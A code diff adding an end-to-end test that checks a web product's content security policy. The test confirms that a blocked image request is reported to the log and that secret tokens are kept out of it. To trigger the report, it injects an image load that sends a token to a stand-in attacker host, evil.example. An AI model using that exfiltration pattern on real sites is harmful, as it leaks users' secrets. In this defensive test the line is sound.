@@ -27,6 +27,27 @@ test('§settings.11 The content policy: no text becomes markup or a script, and 
   complaints.length = 0;
 });
 
+test('§settings.11 The content policy: what a browser reports is in the log, without secrets', async ({
+  page,
+  product,
+  complaints,
+}) => {
+  await page.goto('/login?token=secret-of-the-page');
+  await page.evaluate(() => {
+    new Image().src = 'https://evil.example/pixel.png?token=secret-of-the-picture';
+  });
+  const reports = () =>
+    product
+      .output()
+      .split('\n')
+      .filter((line) => line.includes('content policy broken') && line.includes('evil.example'));
+  await expect.poll(reports, { timeout: 20_000 }).not.toEqual([]);
+  expect(reports()[0]).toContain('"directive":"img-src"');
+  expect(product.output()).not.toContain('secret-of-the-');
+  expect(complaints.join('\n')).toContain('evil.example');
+  complaints.length = 0;
+});
+
 // Every journey fails where a page breaks the policy; this one opens a page of each kind, and nothing else.
 test('§settings.11 The content policy: no page of a visitor breaks it', async ({ page, complaints }) => {
   for (const place of places.filter(({ who, isAnother }) => who === 'visitor' && !isAnother)) await arrive(page, place);
